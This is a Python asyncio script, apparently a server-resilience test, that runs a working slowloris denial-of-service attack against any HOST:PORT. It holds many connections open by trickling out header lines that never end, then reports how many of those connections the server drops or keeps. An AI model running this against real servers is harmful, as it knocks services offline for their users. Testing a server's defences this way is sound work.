#!/usr/bin/python3
"""slowloris.py HOST PORT N SECONDS [INTERVAL]

Opens N connections to HOST:PORT from 127.0.0.1, each sending a request
line and then one header line every INTERVAL seconds (default 1), never
ending its headers: the slowloris attack. Runs for SECONDS, then prints one
JSON line: how many connections the server closed while they trickled,
how many were still open 2 s after the start (what the server holds once
it has turned away what it refuses at once), and how many it held to the
end.
Only the standard library (asyncio): Debian's python3.
"""
import asyncio
import json
import resource
import sys


async def one(host, port, interval, until, stats):
    loop = asyncio.get_running_loop()
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        stats["refused"] += 1
        return
    stats["open"] += 1
    try:
        writer.write(b"GET /v1/jobs HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        await writer.drain()
        i = 0
        while loop.time() < until:
            try:
                # A server that closes the connection: EOF (or a reset).
                data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                if not data:
                    stats["closed_by_server"] += 1
                    return
            except asyncio.TimeoutError:
                pass
            writer.write(b"X-Trickle-%d: 1\r\n" % i)
            await writer.drain()
            i += 1
        stats["held_to_the_end"] += 1
    except (ConnectionError, OSError):
        stats["closed_by_server"] += 1
    finally:
        stats["open"] -= 1
        writer.close()


async def main():
    host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 1.0
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n + 100:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 100), hard))
    stats = dict(refused=0, closed_by_server=0, held_to_the_end=0, open=0, open_at_2s=0)

    async def sample():
        await asyncio.sleep(2)
        stats["open_at_2s"] = stats["open"]

    until = asyncio.get_running_loop().time() + seconds
    await asyncio.gather(sample(), *(one(host, port, interval, until, stats) for _ in range(n)))
    del stats["open"]
    print(json.dumps(stats), flush=True)


asyncio.run(main())
